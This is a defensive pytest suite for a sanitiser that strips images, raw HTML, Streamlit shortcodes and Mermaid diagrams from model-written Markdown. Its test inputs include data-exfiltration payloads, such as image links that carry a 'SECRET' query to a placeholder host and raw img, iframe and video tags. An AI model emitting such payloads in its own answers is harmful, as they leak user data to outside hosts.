"""Model-written Markdown renders no image, HTML or diagram, reads as written, and its code stays.

Rendered here with a plain CommonMark renderer (no plugins), independent of the checker the
module uses on itself: an `<img`, `<iframe`, ... in that HTML is a request the browser would make.
What Streamlit's own renderer adds (directives, shortcodes, icons, diagrams) is checked on the
Markdown here, with the cases tests/e2e/test_markdown_in_browser.py shows in Chromium.
"""

import re

import pytest
from markdown_it import MarkdownIt

from reelscope.untrusted import plot_text, renders_unsafe, safe_inline, safe_markdown
from tests.untrusted_cases import CASES

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FETCHING_TAG = re.compile(r"<(img|iframe|video|audio|source|link|script|object|embed|svg)\b")


def fetching_tags(markdown: str) -> list[str]:
    return FETCHING_TAG.findall(RENDERER.render(markdown))


LEAKS = [
    "![t](https://host/leak.png?d=SECRET)",
    'see ![a [nested] b](http://h/x "title") now',
    "![alt](<http://h/pointy dest>)",
    "![a][r]\n\n[r]: http://h/x",
    "![a][]\n\n[a]: http://h/x 'title'",
    "![shortcut]\n\n[shortcut]: http://h/x",
    "two backslashes \\\\![b](http://h/y)",
    "`code` then ![x](http://h/) then `more`",
    "[![inner](http://h/i)](http://h/o)",
    "> quoted ![x](http://h/q)",
    "- item ![x](http://h/l)\n  - nested ![y](http://h/m)",
    "| a | b |\n|---|---|\n| ![x](http://h/t) | `c` |",
    "# heading ![x](http://h/h)",
    "<img src=http://h/raw.png>",
    "text <img src='http://h/inline.png'> text",
    "<iframe src=http://h/frame></iframe>",
    "<video src=http://h/v.mp4 autoplay></video>",
    '<link rel="stylesheet" href="http://h/s.css">',
    "<div>\n![x](http://h/in-html-block)\n</div>",
    "<!-- comment --><img src=http://h/after-comment>",
    "$$\n```\n$$\n![x](http://h/after-math)\n```",
    "`unclosed ![x](http://h/u)",
    "``unmatched runs` ![x](http://h/d)",
    "$x![y](http://h/math)$",
]


@pytest.mark.parametrize("text", LEAKS)
def test_no_image_or_html_survives(text):
    assert fetching_tags(text) or renders_unsafe(text), "the case must be dangerous to begin with"
    safe = safe_markdown(text)
    assert not fetching_tags(safe), safe
    assert not renders_unsafe(safe)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![t](https://h/x.png)", "[t](https://h/x.png)"),  # the link, no stray "!"
        ("![a][r]\n\n[r]: http://h/x", "[a][r]\n\n[r]: http://h/x"),
        ("Hello![not an image", "Hello\\![not an image"),  # the escape renders as "!"
        ("<img src=x>", "\\<img src=x>"),
        ("Already \\![safe](u)", "Already \\![safe](u)"),
        ("Plain text, a < b and c > d!", "Plain text, a < b and c > d!"),
        ("Go to <https://example.com>!", "Go to <https://example.com>!"),
        ("$a<b$ is math", "$a<b$ is math"),
        ("Wow! [link](http://h/) stays a link", "Wow! [link](http://h/) stays a link"),
    ],
)
def test_text_reads_the_same(text, expected):
    assert safe_markdown(text) == expected


@pytest.mark.parametrize(
    "code",
    [
        "`![not an image](http://h/)`",
        "``a ` ![x](u) <img src=y>``",
        "```rust\nlet v = vec![1, 2];\n![md](http://h/)\n<img src=x>\n```",
        "~~~html\n<img src=http://h/>\n~~~",
        "    indented ![x](http://h/)\n    <video src=y>",
        "> ```\n> vec![0; 3]\n> ```",
    ],
)
def test_code_is_left_byte_for_byte(code):
    text = f"Before ![a](http://h/a)\n\n{code}\n\nAfter <img src=http://h/b>"
    safe = safe_markdown(text)
    assert code in safe
    assert not fetching_tags(safe)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_streamlit_would_change_is_escaped_and_nothing_else(case):
    """The Markdown each case becomes; the browser test shows it reads as `case.seen`."""
    safe = safe_inline(case.text) if case.inline else safe_markdown(case.text)
    assert safe == case.markdown
    assert not fetching_tags(safe) and not renders_unsafe(safe)


# What remark-emoji replaces in a text node (escapes resolved): every emoji name has a letter in
# it, but for these four.
SHORTCODE = re.compile(r":(?:[\w-]*[A-Za-z][\w-]*|\+1|-1|100|1234):", re.ASCII)


def rendered_text_nodes(markdown: str) -> list[str]:
    """The text nodes a renderer would match shortcodes in: escapes resolved, code excluded."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    return [c.content for t in tokens for c in t.children or () if c.type == "text"]


@pytest.mark.parametrize(
    "text",
    [
        ":smile: :+1: :a:b:c: ::: :100: 1:2:3 :material/x: :material_home: :streamlit: a:-1:",
        "`:x:` then :smile: at 1:15:10",
        "**:tada:** and [:heart:](http://h/) and > :wave:",
    ],
)
def test_no_shortcode_icon_or_logo_is_left_in_the_rendered_text(text):
    """Streamlit turns `:word:` in rendered text (escapes gone) into an emoji, an icon or its
    logo: each is broken by a word joiner; times are left as written."""
    safe = safe_markdown(text)
    nodes = rendered_text_nodes(safe)
    assert nodes and not any(SHORTCODE.search(node) for node in nodes), safe
    assert ":material/" not in safe  # Streamlit rewrites this text before parsing
    assert [n.replace("\u2060", "") for n in nodes] == rendered_text_nodes(text), safe


def test_mermaid_fences_are_shown_as_code_and_their_code_kept():
    text = "Look:\n\n> ~~~~ MerMaid-js {x}\n> graph TD; A-->B\n> ~~~~\n\n```mermaid\nC-->D\n```"
    assert renders_unsafe(text)
    safe = safe_markdown(text)
    assert "> ~~~~text\n> graph TD; A-->B\n> ~~~~" in safe
    assert "```text\nC-->D\n```" in safe
    assert not renders_unsafe(safe)


def test_text_holding_the_marker_characters_is_still_safe():
    """The stand-ins for "!" are private-use characters; text that holds them gets escapes."""
    text = "\U000f0000![x](http://h/a) \U000f0001"
    safe = safe_markdown(text)
    assert safe == "\U000f0000\\![x](http://h/a) \U000f0001"
    assert not fetching_tags(safe)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$5 and $6", "\\$5 and \\$6"),  # not math: Pandoc's rule, as Streamlit's check has it
        ("$x$ and $ y $", "$x$ and \\$ y \\$"),
        ("$a$1 or $b$", "\\$a\\$1 or $b$"),  # a digit after the closing $: not math
        ("Costs $$$, or $$x = 1$$", "Costs \\$\\$\\$, or $$x = 1$$"),
    ],
)
def test_a_dollar_stays_a_dollar_unless_it_opens_math(text, expected):
    assert safe_markdown(text) == expected


def test_line_endings_and_nul_do_not_open_a_way_around():
    safe = safe_markdown("a\r\n![x](http://h/crlf)\r<img src=y>\0![z](http://h/nul)")
    assert not fetching_tags(safe)


STREAMED = (
    'Answer: ![chart](http://h/leak.png?d=SECRET "t") and ![r][ref] :red[x] :streamlit: '
    "<img src=http://h/raw> `![code](u)` $![m](http://h/m)$\n\n"
    "```mermaid\nvec![1]\n```\n\n[ref]: http://h/ref.png"
)


def test_every_prefix_of_a_streamed_answer_is_safe():
    """A repaint shows whatever has arrived; no prefix may become an image later or now."""
    for end in range(len(STREAMED) + 1):
        prefix = STREAMED[:end]
        safe = safe_markdown(prefix)
        assert not fetching_tags(safe), (end, safe)
        # With more text still to come, the prefix must not be one that a later chunk completes
        # into an image: any completion of the safe text keeps the escapes it already has.
        assert not fetching_tags(safe + ")"), (end, safe)
        assert not fetching_tags(safe + "](http://h/x)"), (end, safe)
        assert not renders_unsafe(safe) and ":streamlit:" not in safe, (end, safe)


@pytest.mark.parametrize(
    "text",
    [
        "# Heading",
        "> quote",
        "- item",
        "1. item",
        "a | b\n--- | ---",
        "![x](https://h/p.png)",
        "***",
        "```js",
        "<div>",
    ],
)
def test_safe_inline_renders_no_block_and_no_image(text):
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(safe_inline(text))
    assert rendered.startswith("<p>"), rendered
    assert "<img" not in rendered and "<table" not in rendered and "<hr" not in rendered
    assert "<pre" not in rendered and "<div" not in rendered
    assert "\n" not in safe_inline(text)


def test_labels_joined_on_one_line_do_not_pair_their_backticks():
    """A caption joins two labels: a lone backtick in each must not make a code span of what
    lies between (it would show the other label's escapes as written)."""
    quantity, unit = safe_inline("tick` ![q](http://h/q) <b>"), safe_inline("<i> tock`")
    rendered = RENDERER.render(f"Chart: {quantity} ({unit})")
    assert "<code>" not in rendered and "\\" not in rendered, rendered
    assert safe_inline("a `b` c") == "a `b` c"  # a code span that closes stays one


def test_safe_inline_keeps_emphasis_and_escapes_pipes_outside_code_only():
    assert safe_inline("*very* good | `a|b`") == "*very* good \\| `a|b`"


def test_plot_text_escapes_plotly_markup_and_keeps_line_breaks():
    assert (
        plot_text('<a href="https://x">hi</a>')
        == "&lt;a href=&quot;https://x&quot;&gt;hi&lt;/a&gt;"
    )
    assert plot_text("one\ntwo & three") == "one<br>two &amp; three"
